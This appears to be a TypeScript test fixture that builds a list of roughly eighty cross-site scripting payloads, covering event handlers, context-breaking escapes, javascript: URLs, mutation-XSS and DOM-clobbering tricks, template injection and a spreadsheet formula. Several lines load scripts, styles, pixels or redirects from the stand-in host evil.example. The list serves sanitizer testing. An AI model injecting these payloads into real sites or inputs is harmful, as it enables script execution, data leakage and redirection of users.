/** What is thrown at every viewer and every field: a corpus where there is one, and a slice of our own everywhere. */
import { existsSync, readFileSync } from 'node:fs';

/** Lies beside the project where it is worked on, and is not copied into it: its parts have licences of their own. */
const corpus = new URL('../../../shared/corpora/xss-payloads.json', import.meta.url);

const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'ontoggle', 'onanimationstart'];
const elements = [
  ...handlers.map((handler) => `<img src=x ${handler}=alert(1)>`),
  ...handlers.map((handler) => `<svg ${handler}=prompt(1)>`),
  ...handlers.map(
    (handler) => `<details open ${handler}=confirm(1)><summary ${handler}=print()>x</summary></details>`,
  ),
];
const escapes = [
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  ']]>',
  '</script>',
  '`',
  '\0',
];

/** About eighty: each kind of trick once. */
export const slice: readonly string[] = [
  ...elements,
  ...escapes.map((escape) => `${escape}<img src=x onerror=alert(1)>`),
  ...escapes.map((escape) => `${escape}<script>alert(1)</script>`),
  '<script>beacon()</script>',
  '<script src="//evil.example/x.js"></script>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.svg"></object><embed src="//evil.example/x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target=_top>x</a>',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><img src="pixel.png">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="//evil.example/p">',
  '<link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example">',
  '<style>@import "https://evil.example/x.css"; body { background: url(//evil.example/b) }</style>',
  '<p style="background: url(https://evil.example/x)">x</p>',
  '<img src="https://evil.example/pixel"><img srcset="//evil.example/a 1x, //evil.example/b 2x">',
  '<video poster="//evil.example/p" src="//evil.example/v"></video><audio src="//evil.example/a"></audio>',
  '<table background="//evil.example/t"><td background="//evil.example/u">x</table>',
  '<svg><image href="https://evil.example/i"/><use href="https://evil.example/u#x"/></svg>',
  '<svg><script href="data:,alert(1)"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a href="javascript:alert(1)"><text y=20>x</text></a><set attributeName=href to=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<x contenteditable tabindex=1 autofocus onfocus=alert(1)>x</x>',
  '<a id=body name=body><form id=document name=cookie><input name=attributes>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '$t(viewer.close) {{title}}',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.example/","x")',
  'A\u202Egpj.exe\u2066\u200B',
  '\uFEFF\u0000\uD800',
];

/** The corpus where it is there, then the slice. */
export function everything(): readonly string[] {
  if (!existsSync(corpus)) return slice;
  const { payloads } = JSON.parse(readFileSync(corpus, 'utf8')) as {
    payloads: Readonly<Record<string, readonly string[]>>;
  };
  return [...new Set([...Object.values(payloads).flat(), ...slice])];
}
